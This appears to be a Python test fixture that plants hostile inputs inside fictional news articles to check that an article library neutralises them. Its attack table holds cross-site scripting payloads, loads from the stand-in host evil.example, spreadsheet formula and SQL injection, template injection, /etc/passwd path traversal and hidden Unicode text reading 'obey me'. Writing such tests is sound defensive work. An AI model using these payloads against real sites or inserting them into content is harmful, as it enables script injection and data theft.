# ruff: noqa: E501 - attacks stand as they would be sent
"""Articles of a country that does not exist, by authors who would like to be more than text.

Whatever runs, in whatever place, sets ``window.taken``, the title of the page, or asks
``evil.example``: the tests look for each.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace

import retold
from retold.model import Article

TAKE = "window.taken=1;document.title='taken'"
PLAIN = "the second lamp, as it was called"
"""What stands in a harmless article in the place of an attack."""

ATTACKS = {
    "script": f"<script>{TAKE}</script><script src=https://evil.example/a.js></script>",
    "handlers": f'<img src=x onerror="{TAKE}"><body onload="{TAKE}"><input autofocus onfocus="{TAKE}">'
    f'<details open ontoggle="{TAKE}">',
    "attribute": f"\" autofocus onfocus=\"{TAKE}\" onmouseover=\"{TAKE}\" x='",
    "single": f"' onfocus='{TAKE}' autofocus x=`{TAKE}` ><b id=injected>",
    "svg": f'<svg onload="{TAKE}"><script>{TAKE}</script><animate onbegin="{TAKE}" attributeName=x>'
    '<use href="https://evil.example/a.svg#x"/><foreignObject><iframe srcdoc=x></foreignObject></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="'
    f'{TAKE}"></style></mglyph></table></mtext><maction actiontype="statusline" '
    'xlink:href="javascript:window.taken=1">x</maction></math>',
    "style": "<style>*{display:none!important}body{background:url(https://evil.example/a)}</style>"
    "<link rel=stylesheet href=https://evil.example/a.css><p style='position:fixed;inset:0'>",
    "javascript": "[a](javascript:window.taken=1) <a href='javascript:window.taken=1'>b</a> "
    "javascript:window.taken=1//",
    "data": '<iframe src="data:text/html,<script>parent.taken=1</script>"></iframe>'
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src=https://evil.example/e>',
    "frames": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base "
    "href=https://evil.example/><form action=https://evil.example/><button>x</button></form>",
    "comment": "<!-- --!><img src=x onerror=window.taken=1> --> <![CDATA[ <b id=injected> ]]> <!",
    "templates": "{{ 7*191 }} {% include '/etc/passwd' %} {# x #} ${7*191} #{7*191} <%= 7*191 %> "
    "{{ ''.__class__.__mro__ }} {0.__class__} %(password)s",
    "json": "</script><script>window.taken=1</script><!--<script> \\u003c/script> ]]> \\\" \\' ',",
    "bidi": "\u202egnihtemos\u202c \u2066hid\u2069 \u2067den\u2069 \u200fx\u200e \u061c",
    "invisible": "ze\u200bro\u200dwi\u200cdth \ufeff \u00ad \u2060 \u180e "
    + "".join(chr(0xE0000 + ord(c)) for c in "obey me"),
    "combining": "Z" + "\u0335\u0321\u0489\u0316" * 60 + "algo" + "\u0301" * 500,
    "rtl": "שלום עולם مرحبا بالعالم (12) [x] abc",
    "separators": "one\u2028two\u2029three\x0bfour\x0cfive\x85six\r\nseven\rEight",
    "controls": "\x1b[31mred\x1b]0;taken\x07\x1b[2J \x9b31m \x07 \x7f \x08\x08\x08 \x00 nul",
    "surrogates": "half \ud83d and \udc00 half, \ufffe \uffff \U0001f600",
    "formula": "=HYPERLINK(\"https://evil.example/\"&A1,\"x\") +1+cmd|' /C calc'!A0 -2+3 @SUM(1) \tx",
    "sql": "'; DROP TABLE article; -- \" OR 1=1 /* */ article_text MATCH 'x' ? :x $x",
    "fts": 'NEAR("a" b, 5) OR NOT * ^x title:y {a b}: "unclosed (((',
    "lines": 'x\n{"time": "2031", "route": "/forged", "status": 200}\r\nSet-Cookie: taken=1',
    "entities": "&lt;script&gt;window.taken=1&lt;/script&gt; &#60;b id=injected&#62; &#0; &#x202e; &x;",
    "wide": "W" * 30_000,
    "deep": "<div>" * 2_000 + "[" * 2_000 + "(" * 2_000 + "<b id=injected>",
    "paths": "../../../../etc/passwd %2e%2e%2f file:///etc/passwd \\\\evil.example\\x CON",
}  # fmt: skip
STORIES = (
    (
        "Lamp of Gull Point fails",
        "The lighthouse at Gull Point was switched off on Monday after its lamp failed, the harbour"
        " board of Port Almery said.",
        "About {figure} boats waited outside the bar until dawn, when the fog over the sound of"
        " Almery rose and the pilots could see the buoys again.",
        "The keeper had asked for another lamp in the spring, but the board of the harbour found it"
        " too dear and bought a bell instead.",
    ),
    (
        "Chain of the Isk ferry breaks",
        "The ferry between Tarn Hollow and Brenn stopped on Tuesday when the chain that draws it"
        " broke in the middle of the Isk, the council of Brenn said.",
        "Some {figure} passengers spent two hours on the water before a tug of the waterworks drew"
        " them ashore, where they were given soup.",
        "The chain was forged forty years ago and had been inspected in March by an engineer whom"
        " nobody at the ferry remembers.",
    ),
    (
        "Beetles close the museum of Quell",
        "The museum of Quell was closed on Wednesday after beetles were found in the wooden ship"
        " that stands in its great hall, the curator said.",
        "At least {figure} panels have to be taken out and frozen, which costs more than the museum"
        " takes in a whole summer of visitors.",
        "The ship was dug out of the marsh below the town a century ago and is the oldest that is"
        " known on this coast.",
    ),
)
DATES = 28


@dataclass(frozen=True, slots=True)
class Parts:
    """An article before it is read."""

    name: str
    title: str
    outlet: str
    byline: str
    url: str
    paragraphs: tuple[str, ...]
    published: str

    @property
    def text(self) -> str:
        """The paragraphs, parted by empty lines."""
        return "\n\n".join(self.paragraphs)


def parts(name: str, attack: str, index: int) -> Parts:
    """Return an article in which an attack stands wherever an author can put one."""
    headline, *told = STORIES[index % len(STORIES)]
    short = attack[:120]
    return Parts(
        name,
        f"{headline}: {attack[:400]}",
        f"{name.title()} Post {short}",
        f"Ebba {short}",
        f"https://{name}.example/{index}?q={short}",
        (
            told[0],
            f"“Nobody sails blind past the bar, {short} and all,” said Ebba Rusk {short}.",
            told[1].format(figure=20 + 3 * index),
            attack,
            f"It was {10 + index} per cent more than last year, {short}, the office of Mayor Orlo"
            f" {short} said. {told[2]}",
        ),
        f"2031-04-{1 + index % DATES:02d}T{index % 24:02d}:10:00Z",
    )


def hostile() -> Iterator[Parts]:
    """Yield an article an attack."""
    for index, (name, attack) in enumerate(ATTACKS.items()):
        yield parts(name, attack, index)


def harmless() -> Iterator[Parts]:
    """Yield as many articles of the same stories that want nothing."""
    for index, name in enumerate(ATTACKS):
        given = parts(name, PLAIN, index)
        yield given if index % 2 else replace(given, url=given.url.replace(" ", "-"))


def article(given: Parts) -> Article:
    """Return an article as it is handed in by program."""
    return retold.article(
        given.text,
        title=given.title,
        outlet=given.outlet,
        byline=given.byline,
        url=given.url,
        published=given.published,
    )
